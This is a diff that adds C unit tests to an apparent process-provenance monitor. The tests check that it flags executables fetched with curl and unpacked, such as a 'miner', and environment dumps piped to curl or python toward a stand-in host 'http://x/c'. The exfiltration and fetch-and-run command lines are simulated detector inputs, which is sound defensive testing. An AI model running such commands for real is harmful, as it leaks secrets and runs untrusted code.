@@ -360,6 +360,49 @@ static void test_dropped_files(void **state)
 	assert_int_equal(info_of(w, run).exe_prov, 0);
 }
 
+/* `curl -o p.tgz URL; tar xzf p.tgz`: what the extractor writes carries the archive's origin. */
+static void test_archive_extracted(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = fork_of(w, NULL), *curl, *tar, *run;
+
+	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "x.sh"), 0, 0, NULL);
+	/* an archive of the checkout's own, before anything was downloaded */
+	tar = fork_of(w, shell);
+	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "xf", "/src/vendor.tgz"), 0, 0, NULL);
+	file_op(w, tar, "open-write", "/src/vendor/bin/tool", NULL);
+	run = fork_of(w, shell);
+	exec_as(w, run, "/src/vendor/bin/tool", ARGV("tool"), 0, 0, NULL);
+	assert_int_equal(info_of(w, run).exe_prov, 0);
+
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/p.tgz", "http://x/p.tgz"), 0, 0,
+		NULL);
+	file_op(w, curl, "open-write", "/tmp/p.tgz", NULL);
+	tar = fork_of(w, shell);
+	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "-xzf", "/tmp/p.tgz", "-C", "/tmp/x"), 0, 0,
+		NULL);
+	file_op(w, tar, "open-write", "/tmp/x/bin/miner", NULL);
+	exec_as(w, run, "/tmp/x/bin/miner", ARGV("miner"), 0, 0, NULL);
+	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
+
+	/* named relative to its cwd, or with --file= */
+	free(curl->cwd);
+	curl->cwd = strdup("/src");
+	file_op(w, curl, "open-write", "/src/q.zip", NULL);
+	tar = fork_of(w, shell);
+	tar->cwd = strdup("/src");
+	exec_as(w, tar, "/usr/bin/unzip", ARGV("unzip", "-o", "./q.zip"), 0, 0, NULL);
+	file_op(w, tar, "open-write", "/src/q/run", NULL);
+	exec_as(w, run, "/src/q/run", ARGV("run"), 0, 0, NULL);
+	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
+	tar = fork_of(w, shell);
+	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "-x", "--file=/tmp/p.tgz"), 0, 0, NULL);
+	file_op(w, tar, "open-write", "/tmp/y/agent", NULL);
+	exec_as(w, run, "/tmp/y/agent", ARGV("agent"), 0, 0, NULL);
+	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
+}
+
 static uint32_t prog(struct world *w, const char *exe, const char *const *argv)
 {
 	struct bw_proc *p = fork_of(w, NULL);
@@ -555,6 +598,75 @@ static void test_shell_memory_writer(void **state)
 	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
 }
 
+/* A dump of the environment handed to a program that talks to the network. */
+static void test_environment_sent(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = fork_of(w, NULL), *env, *curl, *py, *filter, *sort;
+
+	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "ci.sh"), 0, 0, NULL);
+	/* env | curl -d @- URL, either start order */
+	env = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 50, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 50, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	curl = fork_of(w, shell);
+	env = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-T", "-", "http://x/c"), 51, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 51, NULL);
+	assert_true(rejudged(w, curl));
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+
+	/* cat /proc/self/environ | base64 | python3 post.py: sent once it connects */
+	env = fork_of(w, shell);
+	filter = fork_of(w, shell);
+	py = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/cat", ARGV("cat", "/proc/self/environ"), 0, 52, NULL);
+	exec_as(w, filter, "/usr/bin/base64", ARGV("base64", "-w0"), 52, 53, NULL);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "post.py"), 53, 0, NULL);
+	assert_int_equal(info_of(w, py).sends_prov, 0); /* no network yet */
+	connect_of(w, py, 443, 0);
+	assert_true(rejudged(w, py));
+	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);
+
+	/* curl -d "$(env | base64)" URL: captured right before curl starts */
+	filter = fork_of(w, shell);
+	exec_as(w, filter, "/usr/bin/env", ARGV("env", "-0"), 0, 54, NULL);
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "x", "http://x/c"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+
+	/* curl -d @<(env) URL: curl may start before env */
+	env = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@/dev/fd/63", "http://x/c"), 0, 0,
+		NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 58, NULL);
+	assert_true(rejudged(w, curl));
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+
+	/* not a dump: a command to run, a variable named; not sent: sort */
+	env = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env", "-u", "HOME", "FOO=1", "make"), 0, 55, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 55, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	env = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv", "HOME"), 0, 56, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 56, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	env = fork_of(w, shell);
+	sort = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env", "-u", "HOME"), 0, 57, NULL);
+	exec_as(w, sort, "/usr/bin/sort", ARGV("sort"), 57, 0, NULL);
+	assert_int_equal(info_of(w, sort).stdin_prov, BW_PROV_PIPE | BW_PROV_ENVIRONMENT);
+	assert_int_equal(info_of(w, sort).sends_prov, 0);
+}
+
 static bool mismatch(struct world *w, const char *exe, const char *filename, const char *argv0)
 {
 	struct bw_proc *p = fork_of(w, NULL);
@@ -614,6 +726,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_connected_then_exec, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_stdout_file_then_connect, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_archive_extracted, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
